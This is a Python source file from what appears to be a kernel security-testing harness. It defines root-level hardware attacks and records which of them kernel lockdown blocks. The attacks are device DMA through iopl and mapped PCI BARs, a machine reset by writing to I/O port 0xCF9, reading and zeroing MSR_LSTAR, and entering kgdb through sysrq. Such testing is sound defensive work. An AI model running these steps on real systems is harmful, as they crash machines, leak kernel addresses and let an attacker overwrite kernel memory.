# SPDX-License-Identifier: GPL-2.0-only
"""Attacks by the hardware that root may use: I/O ports, CPU registers and PCI devices."""

from __future__ import annotations

from errno import EPERM
from functools import partial
from mmap import MAP_SHARED, PROT_READ, PROT_WRITE
from os import O_RDONLY, O_RDWR, O_WRONLY
from typing import TYPE_CHECKING

from harness.attacker.tools.pagemap import PAGE
from harness.attacker.tools.pci import VIRTIO_SERIAL, find_device, virtio_registers
from harness.model.variants import VARIANTS
from harness.model.verdict import Effect, Verdict
from harness.scenarios.holes import on_both
from harness.scenarios.registry import BY_OPEN, scenario

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

DMA = "a device can write to all memory, also to a kernel thread's; lockdown closes it"
MACHINE = "access to the machine's registers can end the machine; lockdown closes it"

_LSTAR = 0xC0000082
"""MSR_LSTAR: the address where a system call enters the kernel (asm/msr-index.h)."""

_RESET_PORT = 0xCF9
_RESET = b"\x06"
"""The reset control register of the Q35 chipset, and the value for a full reset."""


_NO_DEBUGGER = dict.fromkeys(
    VARIANTS,
    "kgdb has no console: CONFIG_KGDB_SERIAL_CONSOLE depends on CONFIG_VT, which is off here",
)

_end_machine = partial(
    scenario,
    effect=Effect.AVAILABILITY,
    ends_machine=True,
    holes=on_both(Verdict.DISRUPTED, MACHINE),
)


@scenario(
    effect=Effect.INTEGRITY,
    surface="devmem-kmem-port-iopl",
    through="__x64_sys_iopl",
    answers=("L3", "C15"),
    whole_kernel=True,
    holes=on_both(Verdict.TAMPERED, DMA),
    lockdown={"iopl": EPERM},
)
def iopl_device_dma(attacker: Attacker, handler: Handler) -> None:
    """Get port I/O by iopl(2) and have a device overwrite the handler's state by DMA."""
    port_dma = attacker.payload("port_dma")
    attacker.syscall("iopl", 3)  # the payload calls iopl as well, but reports no errno
    attacker.run(port_dma, str(handler.physical("chain")))


@_end_machine(
    surface="devmem-kmem-port-iopl",
    through="write_port",
    answers=("L3", "C15"),
    lockdown=BY_OPEN,
)
def dev_port_reset(attacker: Attacker, handler: Handler) -> None:
    """Reset the machine by a write to I/O port 0xcf9 through /dev/port."""
    with attacker.open("/dev/port", O_RDWR) as ports:
        ports.pwrite(_RESET, _RESET_PORT)


@scenario(
    effect=Effect.INTEGRITY,
    surface="msr-pci-bar-vfio-noiommu-uio-dma",
    through="pci_mmap_resource_range",
    answers=("L3", "C15"),
    whole_kernel=True,
    holes=on_both(Verdict.TAMPERED, DMA),
    lockdown={"mmap": EPERM},
)
def pci_bar_dma(attacker: Attacker, handler: Handler) -> None:
    """Map a PCI device's BAR from sysfs. The device overwrites the handler's state by DMA."""
    with attacker.setup():
        folder, config = find_device(attacker, VIRTIO_SERIAL)
    at = virtio_registers(config)
    registers = f"{folder}/resource{at.bar}"
    with attacker.open(registers, O_RDWR) as file:  # the payload does the same without an errno
        attacker.syscall("mmap", 0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file.fd, 0)
    places = map(str, (at.common, at.notify, at.step, handler.physical("chain")))
    attacker.run(attacker.payload("virtio_dma"), registers, *places)


@scenario(
    effect=Effect.STEP,
    surface="msr-pci-bar-vfio-noiommu-uio-dma",
    answers=("L3", "C15"),
    reach="rdmsr_safe_on_cpu",
    target="system",
    holes=on_both(Verdict.HELD, "the kernel's address is the same for all its threads"),
)
def msr_kernel_address(attacker: Attacker, handler: Handler) -> None:
    """Read MSR_LSTAR through /dev/cpu/0/msr. The register holds an address of the kernel."""
    with attacker.open("/dev/cpu/0/msr", O_RDONLY) as registers:
        entry = int.from_bytes(registers.pread(8, _LSTAR), "little")
    is_there = handler.has_kernel_symbol_at(entry, "entry_SYSCALL_64")
    attacker.gain("the kernel's address", entry, truth=is_there and entry)


@_end_machine(
    surface="msr-pci-bar-vfio-noiommu-uio-dma",
    through="msr_write",
    answers=("L3", "C15"),
    lockdown={"pwrite64": EPERM},
)
def msr_entry(attacker: Attacker, handler: Handler) -> None:
    """Write 0 to MSR_LSTAR through /dev/cpu/0/msr. The next system call ends the machine."""
    with attacker.open("/dev/cpu/0/msr", O_WRONLY) as registers:
        registers.pwrite(bytes(8), _LSTAR)


@_end_machine(
    surface="kgdb-kdb",
    through="sysrq_handle_dbg",
    answers=("L3", "C15"),
    needs=("KGDB",),
    not_applicable=_NO_DEBUGGER,
)
def kgdb_stop(attacker: Attacker, handler: Handler) -> None:
    """Stop the kernel in kgdb by sysrq-g. The kernel waits for a debugger at the console."""
    enter_debugger(attacker)


@scenario(
    effect=Effect.AVAILABILITY,
    surface="kdb-kill",
    answers=("L3", "C15"),
    reach="kdb_send_sig",
    needs=("KGDB_KDB",),
    not_applicable=_NO_DEBUGGER,
)
def kdb_kill(attacker: Attacker, handler: Handler) -> None:
    """Stop the kernel in kdb by sysrq-g and kill the handler by a command at the console."""
    enter_debugger(attacker)


def enter_debugger(attacker: Attacker) -> None:
    """Stop the kernel in kdb, at the serial console."""
    attacker.write_file("/sys/module/kgdboc/parameters/kgdboc", b"ttyS0")
    attacker.write_file("/proc/sysrq-trigger", b"g")
